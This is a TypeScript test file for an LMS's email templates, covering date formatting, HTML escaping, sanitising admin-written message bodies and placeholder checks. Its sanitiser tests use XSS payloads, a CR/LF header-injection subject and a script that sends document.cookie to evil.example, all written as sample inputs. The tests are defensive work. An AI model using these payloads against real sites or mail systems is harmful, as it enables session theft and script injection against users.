import { test } from 'node:test';
import assert from 'node:assert/strict';
import { escapeHtml } from '../domain/html.ts';
import { unknownPlaceholders } from '../domain/placeholders.ts';
import {
  adminBodyToHtml,
  fillPlaceholders,
  placeholderValues,
  renderMessage,
  sanitizeAdminHtml,
  sanitizeSubject,
  type TemplateContext,
} from '../domain/message-templates.ts';
import { loadConfig } from '../config/env.ts';
import { formatInstant } from '../domain/instant-format.ts';

const ctx = (over: Partial<TemplateContext> = {}): TemplateContext => ({
  appBaseUrl: 'https://lms.example.com/',
  learner: { name: 'Ada Lovelace', email: 'ada@example.com' },
  certificate: { title: 'Forklift Operator' },
  course: { id: '11111111-2222-3333-4444-555555555555', title: 'Forklift Refresher' },
  expiresAt: new Date('2026-03-05T23:30:00Z'),
  daysLeft: 7,
  ...over,
});

test('escapeHtml escapes the five HTML-significant characters', () => {
  assert.equal(escapeHtml(`<a href="x">'&'</a>`), '&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
});

// Issue 18 §7: an instant is written as date, time and zone. The expected strings are written out by
// hand (from the IANA rules: New York is UTC−5 in winter, UTC−4 in summer; Berlin UTC+1 / UTC+2),
// never computed with Intl here.
test('an instant is written as date, 24-hour time and zone, in UTC by default', () => {
  const instant = new Date('2027-03-01T02:00:00Z');
  assert.equal(formatInstant(instant), '1 March 2027, 02:00 (UTC)');
  assert.equal(formatInstant(instant, 'UTC'), '1 March 2027, 02:00 (UTC)');
  assert.equal(formatInstant(new Date('2026-03-05T23:30:00Z')), '5 March 2026, 23:30 (UTC)');
  assert.equal(formatInstant(new Date('2026-07-15T00:05:00Z')), '15 July 2026, 00:05 (UTC)', 'midnight is 00, not 24');
});

test('the same instant west of UTC falls on the previous day', () => {
  assert.equal(formatInstant(new Date('2027-03-01T02:00:00Z'), 'America/New_York'), '28 February 2027, 21:00 (EST)');
});

test('a year boundary: the zone decides the year', () => {
  assert.equal(formatInstant(new Date('2026-12-31T23:30:00Z')), '31 December 2026, 23:30 (UTC)');
  assert.equal(formatInstant(new Date('2027-01-01T00:30:00Z')), '1 January 2027, 00:30 (UTC)');
  assert.equal(formatInstant(new Date('2027-01-01T00:30:00Z'), 'America/New_York'), '31 December 2026, 19:30 (EST)');
  assert.equal(formatInstant(new Date('2026-12-31T23:30:00Z'), 'Europe/Berlin'), '1 January 2027, 00:30 (GMT+1)');
});

test('daylight saving time: summer offsets and names', () => {
  assert.equal(formatInstant(new Date('2026-07-15T10:00:00Z'), 'Europe/Berlin'), '15 July 2026, 12:00 (GMT+2)');
  assert.equal(formatInstant(new Date('2026-01-15T10:00:00Z'), 'Europe/Berlin'), '15 January 2026, 11:00 (GMT+1)');
  assert.equal(formatInstant(new Date('2026-07-15T10:00:00Z'), 'America/New_York'), '15 July 2026, 06:00 (EDT)');
  assert.equal(formatInstant(new Date('2026-07-15T10:00:00Z'), 'Asia/Kolkata'), '15 July 2026, 15:30 (GMT+5:30)');
});

test('an unknown time zone or an invalid Date is a RangeError that says so', () => {
  assert.throws(() => formatInstant(new Date('2027-03-01T02:00:00Z'), 'Mars/Olympus_Mons'), {
    name: 'RangeError',
    message: /Unknown time zone "Mars\/Olympus_Mons"/,
  });
  assert.throws(() => formatInstant(new Date('2027-03-01T02:00:00Z'), ''), { name: 'RangeError', message: /Unknown time zone ""/ });
  assert.throws(() => formatInstant(new Date('not a date')), { name: 'RangeError', message: /invalid Date/ });
});

test('the expiring notice gives the expiry as date, time and zone', () => {
  const r = renderMessage('certificate_expiring', ctx({ expiresAt: new Date('2027-03-01T02:00:00Z') }));
  assert.ok(r);
  assert.equal(r.subject, 'Your certificate "Forklift Operator" expires on 1 March 2027, 02:00 (UTC)');
  assert.ok(r.html.includes('expires on <strong>1 March 2027, 02:00 (UTC)</strong>.'), r.html);
  assert.ok(r.html.includes('Complete it before 1 March 2027, 02:00 (UTC) to receive a renewed certificate.'), r.html);
});

test('a learner name with <script> is escaped in the body and kept as text in the subject', () => {
  const evil = ctx({ learner: { name: '<script>alert("x")</script>', email: 'e@example.com' } });
  const enrollment = renderMessage('course_enrollment', evil, { subject: 'Hi {{learner.name}}', body: '<p>Dear {{learner.name}}</p>' });
  assert.ok(enrollment);
  assert.ok(!enrollment.html.includes('<script>'), 'no raw script tag in the body');
  // The sanitiser writes text quotes as they are (only markup-significant < > & need escaping in text).
  assert.ok(enrollment.html.includes('<p>Dear &lt;script&gt;alert("x")&lt;/script&gt;</p>'), enrollment.html);
  assert.equal(enrollment.subject, 'Hi <script>alert("x")</script>');
  const expiring = renderMessage('certificate_expiring', evil);
  assert.ok(expiring && !expiring.html.includes('<script>') && expiring.html.includes('&lt;script&gt;'));
});

test('course and certificate titles are escaped too', () => {
  const r = renderMessage('certificate_expiring', ctx({ certificate: { title: 'A & B <i>' }, course: { id: 'c1', title: '"Q"' } }));
  assert.ok(r);
  assert.ok(r.html.includes('A &amp; B &lt;i&gt;'));
  assert.ok(r.html.includes('&quot;Q&quot;'));
  assert.ok(!r.html.includes('<i>'));
});

test('the expiring notice names the certificate, the expiry date and links the course', () => {
  const r = renderMessage('certificate_expiring', ctx());
  assert.ok(r);
  assert.equal(r.subject, 'Your certificate "Forklift Operator" expires on 5 March 2026, 23:30 (UTC)');
  assert.ok(r.html.includes('Forklift Operator'));
  assert.ok(r.html.includes('5 March 2026, 23:30 (UTC)'));
  assert.ok(r.html.includes('href="https://lms.example.com/courses/11111111-2222-3333-4444-555555555555"'));
  assert.ok(r.html.includes('Forklift Refresher'));
});

test('the expiring notice without an attempt has no course link', () => {
  const r = renderMessage('certificate_expiring', ctx({ course: null }));
  assert.ok(r);
  assert.ok(!r.html.includes('/courses/'));
  assert.ok(r.html.includes('contact your administrator'));
});

test('the reminder says how many days are left', () => {
  const r = renderMessage('recertification_reminder', ctx({ daysLeft: 1 }));
  assert.ok(r);
  assert.equal(r.subject, 'Reminder: "Forklift Operator" expires in 1 day');
  const r7 = renderMessage('recertification_reminder', ctx({ daysLeft: 7 }));
  assert.ok(r7);
  assert.ok(r7.subject.endsWith('expires in 7 days'));
  assert.ok(r7.html.includes('expires in 7 days, on <strong>5 March 2026, 23:30 (UTC)</strong>.'), r7.html);
  assert.ok(r7.html.includes('/courses/'));
});

test('the expired notice says it expired', () => {
  const r = renderMessage('certificate_expired', ctx());
  assert.equal(r?.subject, 'Your certificate "Forklift Operator" has expired');
  assert.ok(r?.html.includes('expired on <strong>5 March 2026, 23:30 (UTC)</strong>.'), r?.html);
});

test('the enrollment message uses the course template with every placeholder', () => {
  const r = renderMessage('course_enrollment', ctx(), {
    subject: '{{course.title}} for {{learner.name}} ({{daysLeft}}d)',
    body: 'Hi {{learner.name}} <{{learner.email}}>,\n\nOpen {{course.url}} before {{expiresAt}} ({{certificate.title}}).',
  });
  assert.ok(r);
  assert.equal(r.subject, 'Forklift Refresher for Ada Lovelace (7d)');
  // Plain text body: escaped, paragraphs kept.
  assert.ok(r.html.includes('<p>Hi Ada Lovelace &lt;ada@example.com&gt;,</p>'));
  assert.ok(r.html.includes('Open https://lms.example.com/courses/11111111-2222-3333-4444-555555555555 before 5 March 2026, 23:30 (UTC) (Forklift Operator).'));
});

test('no enrollment message: nothing to render', () => {
  assert.equal(renderMessage('course_enrollment', ctx(), null), null);
});

test('unknown placeholders stay; known ones without a value become empty', () => {
  const values = placeholderValues(ctx({ course: null }));
  assert.equal(fillPlaceholders('{{ learner.name }} {{unknown.thing}} [{{course.url}}]', values, 'text'), 'Ada Lovelace {{unknown.thing}} []');
});

test('subjects lose CR/LF (no header injection)', () => {
  assert.equal(sanitizeSubject('Hello\r\nBcc: victim@example.com'), 'Hello Bcc: victim@example.com');
  const r = renderMessage('course_enrollment', ctx({ learner: { name: 'Eve\r\nBcc: x@example.com', email: 'e@example.com' } }), {
    subject: 'Welcome {{learner.name}}',
    body: 'x',
  });
  assert.ok(r && !/[\r\n]/.test(r.subject));
});

test('admin bodies with allowed markup are kept as markup; plain text is escaped', () => {
  assert.equal(adminBodyToHtml('<p>Hi <b>there</b></p>'), '<p>Hi <b>there</b></p>');
  assert.equal(adminBodyToHtml('Terms & conditions\nline 2\n\nnext'), '<p>Terms &amp; conditions<br>line 2</p>\n<p>next</p>');
});

// ---------------------------------------------------------------------------------------------
// Issue 17 §10: what admins write is sanitised at render time.

test('an admin body loses script, style, iframe and their content', () => {
  const html = adminBodyToHtml('<p>Hi</p><script>alert(1)</script><style>p{color:red}</style><iframe src="https://evil.example"></iframe><noscript>x</noscript>');
  assert.equal(html, '<p>Hi</p>');
});

test('an admin body loses on* handlers, style attributes and unknown elements (keeping their text)', () => {
  assert.equal(
    adminBodyToHtml('<p onclick="steal()" style="color:red" class="x">Hi <img src=x onerror="alert(1)"><span onmouseover="y()">there</span></p>'),
    '<p>Hi there</p>',
  );
});

test('links keep http, https and mailto hrefs, get rel="noopener", and lose any other scheme', () => {
  assert.equal(adminBodyToHtml('<a href="https://a.example/x?q=1" target="_blank" rel="opener">a</a>'), '<a href="https://a.example/x?q=1" rel="noopener">a</a>');
  assert.equal(adminBodyToHtml('<a href="http://a.example">a</a>'), '<a href="http://a.example" rel="noopener">a</a>');
  assert.equal(adminBodyToHtml('<a href="mailto:help@example.com">a</a>'), '<a href="mailto:help@example.com" rel="noopener">a</a>');
  for (const bad of ['javascript:alert(1)', 'JavaScript:alert(1)', ' javascript:alert(1)', 'java&#115;cript:alert(1)', 'data:text/html,<b>x</b>', 'vbscript:x', '//evil.example/x', '/relative']) {
    const html = adminBodyToHtml(`<a href="${bad}">a</a>`);
    assert.equal(html, '<a rel="noopener">a</a>', `${bad} → ${html}`);
  }
});

test('paragraphs, line breaks, headings, lists and emphasis are kept', () => {
  const body = '<h1>T</h1><h2>S</h2><h3>s</h3><p>a<br />b</p><ul><li><strong>x</strong></li></ul><ol><li><em>y</em> <b>z</b> <i>w</i></li></ol>';
  assert.equal(adminBodyToHtml(body), body);
});

test('a course enrollment message stored with a script is sent without it (sanitised at render time)', () => {
  const r = renderMessage('course_enrollment', ctx(), {
    subject: 'Welcome',
    body: '<p>Start <a href="{{course.url}}" onclick="x()">here</a></p><script>fetch("https://evil.example/?c="+document.cookie)</script><a href="javascript:alert(1)">click</a>',
  });
  assert.ok(r);
  assert.ok(!r.html.includes('<script'), r.html);
  assert.ok(!r.html.includes('evil.example'), r.html);
  assert.ok(!r.html.includes('javascript:'), r.html);
  assert.ok(!r.html.includes('onclick'), r.html);
  assert.ok(r.html.includes('<a href="https://lms.example.com/courses/11111111-2222-3333-4444-555555555555" rel="noopener">here</a>'), r.html);
});

test('a placeholder value cannot make a link unsafe', () => {
  const r = renderMessage('course_enrollment', ctx({ learner: { name: 'javascript:alert(1)', email: 'e@example.com' } }), {
    subject: 'Welcome',
    body: '<p><a href="{{learner.name}}">me</a></p>',
  });
  assert.ok(r);
  assert.ok(!r.html.includes('href="javascript:'), r.html);
  assert.ok(r.html.includes('<a rel="noopener">me</a>'), r.html);
});

test('sanitizeAdminHtml escapes text left over as text', () => {
  assert.equal(sanitizeAdminHtml('<p>a < b & "c"</p>'), '<p>a &lt; b &amp; "c"</p>');
});

test('unknownPlaceholders names each unknown placeholder once, in order; known ones are not named', () => {
  assert.deepEqual(unknownPlaceholders('{{learner.name}} {{ course.link }} {{learner.nmae}} {{course.link}} {{course.url}}'), ['course.link', 'learner.nmae']);
  assert.deepEqual(unknownPlaceholders('Hi {{learner.name}}, {{ expiresAt }}'), []);
});

test('unknownPlaceholders also refuses what only looks like a placeholder: empty, invisible characters inside, unpaired braces', () => {
  assert.deepEqual(unknownPlaceholders('Hi {{}}'), ['{{}}']);
  assert.deepEqual(unknownPlaceholders('Hi {{learner.name\u200b}}'), ['{{learner.name\\u200b}}']);
  assert.deepEqual(unknownPlaceholders('Hi {{ learner.name }}'), [], 'spaces inside the braces are fine');
  const unclosed = unknownPlaceholders('Hi {{learner.name}');
  assert.equal(unclosed.length, 1);
  assert.match(unclosed[0]!, /unclosed "\{\{"/);
  const stray = unknownPlaceholders('Hi learner.name}} and {{course.url}}');
  assert.equal(stray.length, 1);
  assert.match(stray[0]!, /"\}\}" without its "\{\{"/);
  assert.deepEqual(unknownPlaceholders('Hi {{'), ['an unclosed "{{" ({{)']);
  assert.deepEqual(unknownPlaceholders('{ {single} } braces and {{course.url}}'), [], 'single braces are text');
});

// ---------------------------------------------------------------------------------------------
// Issue 17 §15: {{course.url}} is where the learner takes the course.

const COURSE_ID = '11111111-2222-3333-4444-555555555555';

test('a course with a url: the expiring notice links the url', () => {
  const r = renderMessage('certificate_expiring', ctx({
    course: { id: COURSE_ID, title: 'Forklift Refresher', url: 'https://learn.acme.example/c/forklift?x=1&y=2' },
    courseUrlTemplate: 'https://lms.other.example/courses/{courseId}',
  }));
  assert.ok(r);
  assert.ok(r.html.includes('<a href="https://learn.acme.example/c/forklift?x=1&amp;y=2">Start the course</a>'), r.html);
  assert.ok(!r.html.includes('/courses/'), r.html);
});

test('a course without a url: the expiring notice links the COURSE_URL_TEMPLATE pattern with the id', () => {
  const r = renderMessage('certificate_expiring', ctx({
    course: { id: COURSE_ID, title: 'Forklift Refresher', url: null },
    courseUrlTemplate: 'https://lms.other.example/courses/{courseId}/start',
  }));
  assert.ok(r);
  assert.ok(r.html.includes(`<a href="https://lms.other.example/courses/${COURSE_ID}/start">Start the course</a>`), r.html);
});

test('the url is used in every message kind that links the course', () => {
  const url = 'https://learn.acme.example/c/forklift';
  const c = ctx({ course: { id: COURSE_ID, title: 'Forklift Refresher', url } });
  for (const kind of ['certificate_expiring', 'recertification_reminder', 'certificate_expired', 'recertification_enrollment'] as const) {
    const r = renderMessage(kind, c);
    assert.ok(r?.html.includes(`href="${url}"`), `${kind}: ${r?.html}`);
  }
  const enrollment = renderMessage('course_enrollment', c, { subject: 's', body: 'Go to {{course.url}}' });
  assert.ok(enrollment?.html.includes(`Go to ${url}`), enrollment?.html);
});

test('no pattern configured: the link is today\'s <appBaseUrl>/courses/<id>', () => {
  const r = renderMessage('certificate_expiring', ctx({ course: { id: COURSE_ID, title: 'Forklift Refresher' } }));
  assert.ok(r?.html.includes(`<a href="https://lms.example.com/courses/${COURSE_ID}">Start the course</a>`), r?.html);
});

test('COURSE_URL_TEMPLATE: default from APP_BASE_URL; http(s) with {courseId} only', () => {
  assert.equal(loadConfig({}).courseUrlTemplate, 'http://localhost:3000/courses/{courseId}');
  assert.equal(loadConfig({ APP_BASE_URL: 'https://app.example/' }).courseUrlTemplate, 'https://app.example/courses/{courseId}');
  assert.equal(loadConfig({ COURSE_URL_TEMPLATE: 'https://lms.example.com/courses/{courseId}' }).courseUrlTemplate, 'https://lms.example.com/courses/{courseId}');
  assert.throws(() => loadConfig({ COURSE_URL_TEMPLATE: 'https://lms.example.com/courses' }), /COURSE_URL_TEMPLATE: must contain \{courseId\}/);
  assert.throws(() => loadConfig({ COURSE_URL_TEMPLATE: 'javascript:alert("{courseId}")' }), /COURSE_URL_TEMPLATE: must be an http or https URL/);
});
